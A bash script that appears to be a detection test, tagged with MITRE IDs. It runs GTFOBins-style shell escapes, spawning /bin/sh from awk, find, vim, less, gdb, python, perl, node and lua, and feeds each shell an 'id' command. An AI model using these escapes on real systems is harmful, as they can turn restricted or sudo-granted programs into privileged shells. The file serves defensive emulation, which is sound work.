#!/bin/bash
# desc: an interactive shell escapes from programs that run commands (GTFOBins): awk, find, vim, less, gdb, python, perl, node, lua
# mitre: T1059.004, T1548.003
# expect: shell_escape_from_program
source "$ATTACK_LIB"

# Each shell reads "id" from its input and runs it, as a person would type it.
echo id | awk 'BEGIN { system("/bin/sh") }'
echo id | find . -maxdepth 0 -exec /bin/sh \;
echo id | SHELL=/bin/sh timeout 10 vim -E -s -N -u NONE -c '!/bin/sh' -c 'qa!' >/dev/null
# less reads its commands from a terminal: give it one, and type.
(sleep 0.5; printf '!/bin/sh\n'; sleep 0.5; printf 'id\nexit\n'; sleep 0.5; printf '\n'; sleep 0.3
 printf 'q') | SHELL=/bin/sh timeout 10 script -qec "less $ATTACK_LIB" /dev/null >/dev/null
echo id | timeout 10 gdb -nx -batch -ex '!/bin/sh' >/dev/null 2>&1
echo id | /usr/bin/python3 -c 'import os; os.system("/bin/sh")'
echo id | perl -e 'system("/bin/sh -i")' 2>/dev/null
echo id | node -e 'require("child_process").spawnSync("/bin/sh", [], { stdio: "inherit" })'
echo id | lua -e 'os.execute("/bin/sh")'
